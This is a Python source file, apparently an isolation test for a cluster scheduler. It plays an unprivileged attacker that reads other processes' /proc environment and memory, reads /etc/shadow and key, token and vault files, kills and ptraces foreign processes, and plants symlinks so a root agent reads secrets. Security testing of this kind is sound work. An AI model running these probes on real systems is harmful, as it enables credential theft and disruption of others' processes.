"""The raid of the attacker of `bench/tenants.py` on a node: read, signal and open what belongs to others.

python3 raid.py HEX SECONDS. HEX is the marker of all canaries in hexadecimal, so that the raid does not find
itself. `victims.json` names what the attacker could have found out: pids, threads, directories and jobs of
this cluster, and nothing else of the machine. It needs only the standard library, and prints one JSON object
per line: each catch, then the number of attempts and of delivered signals.
"""

import contextlib
import ctypes
import json
import os
import re
import signal
import socket
import stat
import sys
import time
from collections import Counter
from collections.abc import Iterator
from typing import Any

UNPRIVILEGED = 60_000  # users from this id on are users of jobs
READ_BYTES = 1 << 16
FILES_MAX = 500  # per walk of a directory
CATCHES_MAX = 200
SIGNALS = (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGCONT)
TGKILL, PTRACE, PROCESS_VM_READV = {"x86_64": (234, 101, 310)}.get(os.uname().machine, (131, 117, 270))
PTRACE_SEIZE = 0x4206
OF_A_PROCESS = ("environ", "cmdline", "maps", "auxv", "stack", "mem", "root/etc/shadow", "cwd/secret.txt")
OF_A_NODE = ("node.pem", "keeper.id", "keeper.log", "journal", "server", "groups")
OF_A_JOB = ("secret.txt", "ours.txt")
OF_A_TASK = ("out/result.txt", "1.token", "report/1.json")
OF_A_SERVER = ("token", "rota.db", "rota.db-wal", "vault/vault.json", "ca/ca.key", "audit.log")

libc = ctypes.CDLL(None, use_errno=True)
tried: Counter[str] = Counter()
delivered: Counter[str] = Counter()
caught: dict[str, str] = {}


def main() -> None:
    if min(os.getuid(), os.geteuid()) < UNPRIVILEGED:
        # As root every signal below would be delivered; running as root is a breach by itself.
        print(json.dumps({"where": "user", "text": f"runs as user {os.getuid()}"}), flush=True)
        return
    marker, seconds = bytes.fromhex(sys.argv[1]), float(sys.argv[2])
    secret = re.compile(
        re.escape(marker) + rb"[\w-]+|(?:rota|join|task)_[\w.-]{32,}|PRIVATE KEY-+\s+[\w+/]{40}"
    )
    with open("victims.json") as file:
        victims = json.load(file)
    plant(victims, os.environ.get("ROTA_OUTPUT_DIR", "out"))
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for attack in (read_processes, signal_all, read_files, open_sockets):
            for where, found in attack(victims):
                catch(secret, where, found)
    print(json.dumps({"tried": tried, "delivered": delivered}), flush=True)


def catch(secret: "re.Pattern[bytes]", where: str, found: bytes) -> None:
    for text in secret.findall(found):
        value = text.decode(errors="replace")
        if value not in caught and len(caught) < CATCHES_MAX:
            caught[value] = where
            print(json.dumps({"where": where, "text": value}), flush=True)


def read(path: str) -> bytes:
    tried["read"] += 1
    with contextlib.suppress(OSError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(descriptor, READ_BYTES)
        finally:
            os.close(descriptor)
    return b""


def read_processes(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    """Read what /proc shows of every process of the machine; nothing is changed."""
    del victims
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        if is_ours(int(pid)):
            continue
        for name in OF_A_PROCESS:
            yield f"/proc/PID/{name}", read(f"/proc/{pid}/{name}")
        for kind in ("fd", "task"):
            with contextlib.suppress(OSError):
                for name in os.listdir(f"/proc/{pid}/{kind}")[:50]:
                    path = f"/proc/{pid}/{kind}/{name}" + ("/environ" if kind == "task" else "")
                    yield f"/proc/PID/{kind}", read(path)


def is_ours(pid: int) -> bool:
    """Whether it is a process of this job; the environment of any other should not be readable."""
    job = f"ROTA_JOB_ID={os.environ.get('ROTA_JOB_ID', '')}".encode()
    with contextlib.suppress(OSError), open(f"/proc/{pid}/environ", "rb") as environment:
        return job in environment.read().split(b"\0")
    return False


def signal_all(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    for pid, threads in victims["processes"]:
        if is_ours(pid):  # in a pid namespace the number may be one of ours
            continue
        for number in SIGNALS:
            with contextlib.suppress(OSError):
                tried["kill"] += 1
                os.kill(pid, number)
                delivered[f"kill {number.name}"] += 1
        for thread in threads:
            for number in (signal.SIGSTOP, signal.SIGKILL):
                tried["tgkill"] += 1
                delivered[f"tgkill {number.name}"] += libc.syscall(TGKILL, pid, thread, int(number)) == 0
        yield from trace(pid)
    with contextlib.suppress(OSError):
        os.kill(-1, 0)  # a signal to all reaches only processes of our own user


def trace(pid: int) -> Iterator[tuple[str, bytes]]:
    tried["ptrace"] += 1
    delivered["ptrace"] += libc.syscall(PTRACE, PTRACE_SEIZE, pid, 0, 0) == 0
    with contextlib.suppress(OSError):
        tried["pidfd"] += 1
        handle = os.pidfd_open(pid)
        try:
            signal.pidfd_send_signal(handle, signal.SIGKILL)
            delivered["pidfd SIGKILL"] += 1
        finally:
            os.close(handle)
    with contextlib.suppress(OSError), open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            if "[stack]" in line or "[heap]" in line:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                yield "process_vm_readv", read_memory(pid, begin, end)


def read_memory(pid: int, begin: int, end: int) -> bytes:
    tried["process_vm_readv"] += 1
    size = min(end - begin, READ_BYTES)
    buffer = ctypes.create_string_buffer(size)
    ours = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), size)
    theirs = (ctypes.c_size_t * 2)(end - size, size)
    got = libc.syscall(PROCESS_VM_READV, pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return buffer.raw[: max(0, got)]


def read_files(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    for path in targets(victims):
        yield path, read(path)
    for root in (*victims["nodes"], *victims["servers"], "/tmp", "/var/tmp", "/dev/shm"):
        for path in walk(root):
            yield path, read(path)


def targets(victims: dict[str, Any]) -> Iterator[str]:
    """Files in directories that can be traversed but not listed, by their known names."""
    for node in victims["nodes"]:
        yield from (f"{node}/{name}" for name in OF_A_NODE)
        for job in victims["jobs"]:
            yield from (f"{node}/work/{job}/{name}" for name in OF_A_JOB)
            yield from (f"{node}/tasks/{job}/0/{name}" for name in OF_A_TASK)
            yield from (f"{node}/logs/{job}/{number}.out" for number in (0, 1))
    for server in victims["servers"]:
        yield from (f"{server}/{name}" for name in OF_A_SERVER)


def walk(root: str) -> Iterator[str]:
    """Regular files of other users below `root`, in directories of this cluster that can be listed."""
    left = FILES_MAX
    for directory, _, names in os.walk(root):
        if "rota" not in directory:
            continue
        for name in names:
            path = os.path.join(directory, name)
            with contextlib.suppress(OSError):
                status = os.lstat(path)
                if stat.S_ISREG(status.st_mode) and status.st_uid != os.getuid():
                    left -= 1
                    yield path
            if left <= 0:
                return


def open_sockets(victims: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    """Connect to the keeper's socket; a keeper that accepted would take orders."""
    for node in victims["nodes"]:
        tried["connect"] += 1
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(1)
            connection.connect(f"{node}/keeper.sock")
            delivered["connect to a keeper"] += 1
            yield "keeper.sock", connection.recv(READ_BYTES)


def plant(victims: dict[str, Any], output: str) -> None:
    """Plant links among our own outputs, which the root agent reads on request."""
    paths = ["/etc/shadow", "/proc/1/environ", *targets({**victims, "jobs": victims["jobs"][:20]})]
    for number, path in enumerate(paths):
        for make, name in ((os.symlink, f"link-{number}"), (os.link, f"hard-{number}")):
            tried["link"] += 1
            with contextlib.suppress(OSError):
                make(path, f"{output}/{name}")
    for number, node in enumerate(victims["nodes"]):
        with contextlib.suppress(OSError):
            os.symlink(f"{node}/work", f"{output}/directory-{number}")


if __name__ == "__main__":
    main()
